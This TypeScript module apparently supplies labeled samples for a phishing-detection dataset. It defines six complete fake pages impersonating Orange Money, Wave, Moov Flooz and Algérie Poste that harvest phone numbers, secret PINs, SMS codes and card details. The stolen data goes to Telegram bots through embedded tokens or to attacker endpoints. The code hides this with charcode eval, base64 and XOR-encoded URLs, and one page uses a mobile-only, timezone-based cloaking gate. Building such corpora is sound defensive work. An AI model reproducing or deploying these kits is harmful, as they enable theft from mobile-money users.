import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { b64, codesOf, doc, logos, splitJs, tgSendJs, visitorInfoJs, gateJs, pinPadHtml, xorB64, xorDecoderJs, cardFieldsFr, luhnJs } from '../parts/xe-kit.js';

/**
 * Mobile-money PIN harvesters: Orange Money, Wave, MTN MoMo, Moov Money (Flooz) and Algérie Poste
 * Edahabia/BaridiMob pages that promise a bonus or a refund, or threaten a blocked transfer, and ask for
 * the phone number, the secret code and the SMS confirmation code.
 */

const orangeMoneyBonusCi: Entry = (() => {
  const host = 'orangemoney-ci-bonus.com';
  return {
    id: 'xe-orange-money-ci-bonus-pin',
    label: 'phishing',
    kind: 'mobile-money-pin-kit',
    url: `https://${host}/recevoir/`,
    body: doc({
      title: 'Orange Money - Bonus fidélité 25 000 FCFA',
      css: `body{margin:0;background:#000;font-family:Helvetica,Arial;color:#fff}.h{display:flex;align-items:center;gap:10px;padding:12px 16px;border-bottom:1px solid #333}.card{margin:18px;background:#fff;color:#000;border-radius:6px;padding:20px}.big{font-size:30px;color:#ff7900;font-weight:800}input{width:100%;padding:13px;font-size:17px;margin:8px 0;border:2px solid #ddd;box-sizing:border-box}button{width:100%;padding:14px;background:#ff7900;color:#fff;font-size:17px;border:0;font-weight:700}.pp-dots{display:flex;gap:12px;justify-content:center;margin:12px}.pp-dots span{width:14px;height:14px;border-radius:50%;border:2px solid #ff7900}.pp-dots span.on{background:#ff7900}.pp-pad{display:grid;grid-template-columns:repeat(3,1fr);gap:8px}.pp-pad button{background:#f2f2f2;color:#000;font-size:22px;padding:14px}#s2{display:none}.cmt{font-size:12px;color:#666;border-top:1px solid #eee;margin-top:14px;padding-top:10px}`,
      body: `<div class="h">${logos.orange(34)}<b>Orange Money</b></div>
<div class="card"><div id="s1"><p>Félicitations ! Votre numéro fait partie des <b>500 clients</b> sélectionnés pour le bonus de fidélité Orange Money.</p><p class="big">+25 000 FCFA</p>
<p>Saisissez votre numéro Orange Money pour recevoir le bonus sur votre compte.</p><input id="msisdn" placeholder="07 XX XX XX XX" inputmode="tel"><button onclick="go1()">Recevoir mon bonus</button></div>
<div id="s2"><p><b>Confirmation</b> : pour créditer votre compte, entrez votre code secret Orange Money.</p>${pinPadHtml('pp', 'code', 4)}</div>
<div class="cmt">💬 <b>Koffi A.</b> : J'ai reçu mes 25 000 ce matin merci Orange 🙏<br>💬 <b>Aminata D.</b> : ça marche vraiment, crédité en 5 min</div></div>
<script>${tgSendJs('snd', splitJs('7011239845:AAH8rQwZ0pLmX4vN2bYcT6uJ9kEs3dFgA1o', 7), `'6120934411'`, 'xhr')}
function go1(){var m=document.getElementById('msisdn').value;if(m.replace(/\\D/g,'').length<10){alert('Numéro invalide');return}sessionStorage.m=m;snd('OM CI numero: '+m);s1.style.display='none';s2.style.display='block'}
document.getElementById('code').addEventListener('complete',function(){snd('OM CI '+sessionStorage.m+' PIN: '+this.value,function(){location.href='/recevoir/confirmation.html'})});</script>`,
    }),
    routes: {
      [`${host}/recevoir/confirmation.html`]: htmlRoute(doc({ title: 'Orange Money', body: `<div style="font-family:Arial;text-align:center;margin-top:60px">${logos.orange(40)}<p>Vous allez recevoir un code de validation par SMS. Entrez-le pour débloquer le bonus.</p><form method="post" action="/recevoir/v.php"><input name="sms" maxlength="6" style="font-size:22px;text-align:center"><br><button style="margin-top:10px;background:#ff7900;color:#fff;border:0;padding:12px 28px">Valider</button></form></div>` })),
    },
  };
})();

const waveSnVerification: Entry = (() => {
  const host = 'wave-sn-verification.site';
  return {
    id: 'xe-wave-senegal-account-verification',
    label: 'phishing',
    kind: 'mobile-money-pin-kit',
    url: `https://${host}/compte/verifier`,
    body: doc({
      title: 'Wave Sénégal - Vérification du compte',
      css: `body{margin:0;background:#1dc8f2;font-family:'Segoe UI',Arial}.w{max-width:380px;margin:0 auto;min-height:100vh;background:#fff}.top{background:#1dc8f2;padding:24px;text-align:center;color:#0b1d3a}.in{padding:22px}.in input{width:100%;padding:14px;border-radius:10px;border:1px solid #cfe8f1;margin:8px 0;font-size:16px;box-sizing:border-box}.in button{width:100%;padding:14px;border-radius:30px;background:#0b1d3a;color:#fff;border:0;font-size:16px;margin-top:8px}.al{background:#fff4e5;border-radius:8px;padding:10px;font-size:13px;color:#8a4b00}`,
      body: `<div class="w"><div class="top">${logos.wave(56)}<h2>Wave</h2><p>Dalal ak jamm ! Nangadef ?</p></div><div class="in">
<p class="al">⚠️ Votre compte Wave sera suspendu dans 24h suite à une vérification KYC incomplète (instruction BCEAO). Confirmez votre identité pour continuer à envoyer et recevoir de l'argent.</p>
<form id="wf"><input name="tel" placeholder="Numéro Wave (77 / 78 / 76 / 70)" inputmode="tel" required><input name="nom" placeholder="Prénom et nom" required><input name="cni" placeholder="Numéro de CNI" required>
<input name="code" type="password" inputmode="numeric" maxlength="4" placeholder="Code secret Wave (4 chiffres)" required><button>Vérifier mon compte</button></form>
<p style="font-size:11px;color:#999;text-align:center">Wave Mobile Money SA · Agréé par la BCEAO</p></div></div>
<script>${visitorInfoJs('vi')}${tgSendJs('tg', `atob('${b64('6884102735:AAGk2mNbV7xQ9rT4wYz0cLp1sDe8HfJuK3i')}')`, `atob('${b64('-1002093847561')}')`)}
document.getElementById('wf').onsubmit=async function(e){e.preventDefault();var s='🌊 WAVE SN\\n';new FormData(this).forEach(function(v,k){s+=k+' = '+v+'\\n'});await tg(s+(await vi()));location.href='/compte/otp?t='+encodeURIComponent(this.tel.value)};</script>`,
    }),
    routes: {
      [`${host}/compte/otp`]: htmlRoute(doc({ title: 'Wave - Code de confirmation', body: `<div style="max-width:360px;margin:40px auto;font-family:Arial;text-align:center">${logos.wave(48)}<p>Un code de confirmation a été envoyé par SMS. Ne le partagez avec personne.</p><form method="post" action="/compte/otp"><input name="otp" maxlength="6" inputmode="numeric" style="font-size:24px;text-align:center;width:70%;padding:10px"><br><button style="margin-top:14px;border-radius:30px;background:#0b1d3a;color:#fff;border:0;padding:12px 40px">Confirmer</button></form></div>` })),
    },
  };
})();

const moovFloozCharcodes: Entry = (() => {
  const script = `var f=document.getElementById('fz');f.onsubmit=function(e){e.preventDefault();var d='MOOV FLOOZ%0Anum: '+encodeURIComponent(f.num.value)+'%0Apin: '+encodeURIComponent(f.pin.value)+'%0Aop: '+f.pays.value;
var i=new Image();i.src='https://api.telegram.org/bot7493028816:AAFpQ3nVx8cLwZ1mRk0tBy6sH2dJe9uGo4K/sendMessage?chat_id=5123098874&text='+d;setTimeout(function(){document.getElementById('ok').style.display='block';f.style.display='none'},1500)};`;
  return {
    id: 'xe-moov-flooz-bonus-charcode-exfil',
    label: 'phishing',
    kind: 'mobile-money-pin-kit',
    url: 'https://moov-flooz-bonus.top/ci/index.html',
    body: doc({
      title: 'Moov Money Flooz - Bonus de transfert',
      css: `body{font-family:Arial;background:#eaf3fb;margin:0}.c{max-width:400px;margin:30px auto;background:#fff;border-radius:10px;padding:22px;border-top:6px solid #f7941d}select,input{width:100%;padding:12px;margin:6px 0;box-sizing:border-box}button{width:100%;padding:13px;background:#0068b3;color:#fff;border:0;border-radius:6px}#ok{display:none;color:#0a7d28}`,
      body: `<div class="c">${logos.moov(34)}<h3>Bonus Flooz 2x sur vos transferts</h3><p>Pour fêter les 10 ans de Moov Money, recevez le double de votre dernier transfert. Offre valable aujourd'hui uniquement.</p>
<form id="fz"><select name="pays"><option>Côte d'Ivoire</option><option>Bénin</option><option>Togo</option><option>Burkina Faso</option><option>Niger</option></select><input name="num" placeholder="Numéro Moov Money" required><input name="pin" type="password" placeholder="Code secret Flooz" maxlength="4" required><button>Activer le bonus</button></form>
<p id="ok">Bonus activé ! Vous recevrez un SMS de confirmation.</p></div>
<script>eval(String.fromCharCode(${codesOf(script)}))</script>`,
    }),
  };
})();

const edahabiaBaridimob: Entry = (() => {
  const host = 'baridimob-dz-edahabia.online';
  return {
    id: 'xe-algerie-poste-edahabia-baridimob',
    label: 'phishing',
    kind: 'postal-bank-card-kit',
    url: `https://${host}/edahabia/activation`,
    body: doc({
      title: 'Algérie Poste - Activation Edahabia | بريد الجزائر',
      lang: 'ar',
      dir: 'rtl',
      css: `body{margin:0;font-family:Tahoma,Arial;background:#f5f5f5}.hd{background:#ffcc00;padding:12px 20px;font-weight:bold;color:#003a70}.b{max-width:480px;margin:24px auto;background:#fff;padding:22px;border-radius:6px}.fr{direction:ltr;text-align:left;color:#666;font-size:13px}.ed-l{display:block;margin-top:10px;font-size:13px}.ed-i{width:100%;padding:10px;border:1px solid #ccc;box-sizing:border-box}.ed-row{display:flex;gap:8px}.ed-row>div{flex:1}.ed-amount{background:#fff8d6;padding:8px}button{width:100%;margin-top:14px;padding:12px;background:#003a70;color:#fff;border:0}`,
      body: `<div class="hd">بريد الجزائر · Algérie Poste · BaridiMob</div><div class="b">
<h3>تفعيل خدمة الدفع الإلكتروني لبطاقة الذهبية</h3><p>عزيزي الزبون، لمواصلة استعمال بطاقتكم الذهبية وتطبيق BaridiMob يرجى تأكيد المعلومات التالية قبل 48 ساعة.</p>
<p class="fr">Cher client, afin de maintenir votre carte EDAHABIA active, veuillez confirmer vos informations.</p>
<form id="ed"><label class="ed-l">رقم الحساب البريدي الجاري (RIP)</label><input class="ed-i" name="rip" placeholder="00799999 00XXXXXXXX XX" required>
<label class="ed-l">رقم الهاتف</label><input class="ed-i" name="tel" placeholder="05 / 06 / 07" required>
<div dir="ltr">${cardFieldsFr({ cls: 'ed', idPrefix: 'ed', holder: false, amountLine: 'Frais d\'activation : 0 DA' })}</div>
<label class="ed-l">الرقم السري للبطاقة (PIN)</label><input class="ed-i" name="pin" type="password" maxlength="4" required><button>تأكيد · Confirmer</button></form></div>
<script>${luhnJs('lu')}${xorDecoderJs('k', `'dz'+'213'`)}var E=k('${xorB64(`https://${host}/edahabia/cp/receive.php`, 'dz213')}');
document.getElementById('ed').onsubmit=function(e){e.preventDefault();if(!lu(document.getElementById('ed-num').value)){alert('رقم البطاقة غير صحيح');return}
fetch(E,{method:'POST',body:new FormData(this)}).then(function(){location.href='/edahabia/sms'})};</script>`,
    }),
    routes: {
      [`${host}/edahabia/sms`]: htmlRoute(doc({ title: 'Algérie Poste', lang: 'ar', dir: 'rtl', body: '<div style="max-width:380px;margin:60px auto;font-family:Tahoma;text-align:center"><p>أدخل الرمز السري المرسل إلى هاتفك عبر رسالة قصيرة</p><form method="post" action="/edahabia/cp/receive.php"><input name="otp" maxlength="6" style="font-size:22px;text-align:center"><br><button style="margin-top:12px;background:#003a70;color:#fff;border:0;padding:10px 30px">تأكيد</button></form></div>' })),
    },
  };
})();

const waveCiBlockedTransfer: Entry = (() => {
  const kit = 'wave-ci-annulation.netlify.app';
  return {
    id: 'xe-wave-ci-blocked-transfer-redirect',
    label: 'phishing',
    kind: 'mobile-money-pin-kit',
    url: 'https://tinyurl-ci.link/wv75k',
    routes: {
      'tinyurl-ci.link/wv75k': redirectRoute(301, `https://${kit}/transfert?id=WV-75000-8841`),
      [`${kit}/transfert`]: htmlRoute(doc({
        title: 'Wave - Transfert en attente',
        css: `body{margin:0;font-family:Arial;background:#f0fbff}.m{max-width:400px;margin:0 auto;background:#fff;min-height:100vh;padding:20px;box-sizing:border-box}.amt{font-size:34px;font-weight:700;color:#0b1d3a;text-align:center}.st{background:#ffe9e9;color:#b00020;border-radius:8px;padding:10px;text-align:center}.w-dots{display:flex;justify-content:center;gap:14px;margin:16px}.w-dots span{width:16px;height:16px;border-radius:50%;background:#e3eef3}.w-dots span.on{background:#1dc8f2}.w-pad{display:grid;grid-template-columns:repeat(3,1fr);gap:10px}.w-pad button{padding:16px;font-size:22px;border:0;background:#f4f8fa;border-radius:10px}`,
        body: `<div class="m">${logos.wave(40)}<p class="st">Transfert bloqué – vérification requise</p><p class="amt">75 000 F</p><p style="text-align:center">Envoyé par <b>KONE Ibrahim</b> · 07 58 ** ** 12<br>Référence WV-75000-8841</p>
<p>Pour débloquer et recevoir ce transfert sur votre compte Wave, saisissez votre code secret.</p>${pinPadHtml('w', 'wpin', 4)}
<input id="wnum" placeholder="Votre numéro Wave" style="width:100%;padding:12px;margin-top:12px;box-sizing:border-box"></div>
<script>document.getElementById('wpin').addEventListener('complete',function(){var q=new URLSearchParams({n:document.getElementById('wnum').value,p:this.value,r:'WV-75000-8841'});
fetch('https://${kit}/.netlify/functions/tx',{method:'POST',body:q}).finally(function(){location.href='https://www.wave.com/fr/'})});</script>`,
      })),
    },
  };
})();

const orangeMoneyMaCloaked: Entry = (() => {
  const host = 'orange-money-maroc.remboursement-om.com';
  const form = `<h2>استرجاع المبلغ · Remboursement Orange Money</h2><p>Suite à une erreur technique, des frais de 49,90 DH ont été prélevés deux fois sur votre compte Orange Money. Vous pouvez demander le remboursement ci-dessous.</p>
<p dir="rtl">بسبب خطأ تقني تم اقتطاع 49,90 درهم مرتين من حسابكم. املأ الاستمارة لاسترجاع المبلغ.</p>
<form method="post" action="/om/traitement.php"><input name="gsm" placeholder="06 XX XX XX XX"><input name="code" type="password" placeholder="Code secret Orange Money" maxlength="4"><input name="carte" placeholder="Numéro de carte bancaire liée (remboursement)"><input name="exp" placeholder="MM/AA"><input name="cvv" placeholder="CVV"><button>Demander le remboursement</button></form>`;
  return {
    id: 'xe-orange-money-maroc-refund-mobile-gate',
    label: 'phishing',
    kind: 'mobile-money-pin-kit',
    url: `https://${host}/om/`,
    body: doc({
      title: 'Orange Money Maroc',
      css: `body{margin:0;background:#f4f4f4;font-family:Arial}.t{background:#000;padding:10px 16px}.m{max-width:420px;margin:16px auto;background:#fff;padding:18px}.m input{display:block;width:100%;padding:11px;margin:7px 0;box-sizing:border-box}.m button{width:100%;padding:13px;background:#ff7900;border:0;color:#fff;font-weight:bold}`,
      body: `<div class="t">${logos.orange(30)}</div><div class="m" id="m">Chargement...</div>
<script>${gateJs({ decoy: 'https://www.orange.ma/', mobileOnly: true, zones: ['Africa/Casablanca'], onPass: `document.getElementById('m').innerHTML=decodeURIComponent(escape(atob('${b64(form)}')))` })}</script>`,
    }),
  };
})();

export const entries: Entry[] = [orangeMoneyBonusCi, waveSnVerification, moovFloozCharcodes, edahabiaBaridimob, waveCiBlockedTransfer, orangeMoneyMaCloaked];
